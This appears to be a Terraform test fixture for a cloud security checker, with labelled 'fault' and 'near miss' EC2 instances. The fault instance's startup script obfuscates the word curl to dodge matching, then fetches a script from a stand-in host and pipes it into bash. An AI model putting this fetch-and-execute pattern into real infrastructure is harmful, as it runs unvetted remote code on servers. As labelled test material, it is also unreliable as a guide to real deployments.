# An instance pipes a downloaded script into a shell at its first start.
# Source: https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/user-data.html
# Fault at: aws_instance.udcurl_fault
# Near miss at: aws_instance.udcurl_near

resource "aws_kms_key" "udcurl_key" {
  description         = "Key for udcurl_key"
  enable_key_rotation = true
}

resource "aws_vpc" "udcurl_vpc" {
  cidr_block = "10.20.0.0/16"
}

resource "aws_subnet" "udcurl_subnet" {
  vpc_id     = aws_vpc.udcurl_vpc.id
  cidr_block = "10.20.1.0/24"
}

data "aws_ami" "udcurl_ami" {
  owners     = ["self"]
  name_regex = "^shop-prod-base-"
  depends_on = [aws_kms_key.udcurl_key]
}

resource "aws_instance" "udcurl_fault" {
  ami                  = data.aws_ami.udcurl_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udcurl_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udcurl_key.arn
  }
  user_data = <<-EOT
    #!/bin/bash
    set -eu
    C=cu; L=rl; "$C$L" -fsSL https://get.example.net/boot \
      | /usr/bin/env bash -s -- --quiet
  EOT
}

# Pipes, curl and sh are all there, but nothing is downloaded and run.
resource "aws_instance" "udcurl_near" {
  ami                  = data.aws_ami.udcurl_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udcurl_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udcurl_key.arn
  }
  user_data = <<-EOT
    #!/bin/sh
    set -eu
    dnf install -y amazon-cloudwatch-agent
    curl -fsS http://localhost:8080/healthz | grep -q ok && echo healthy | logger -t shop
    sh /opt/shop/bin/start.sh
  EOT
}
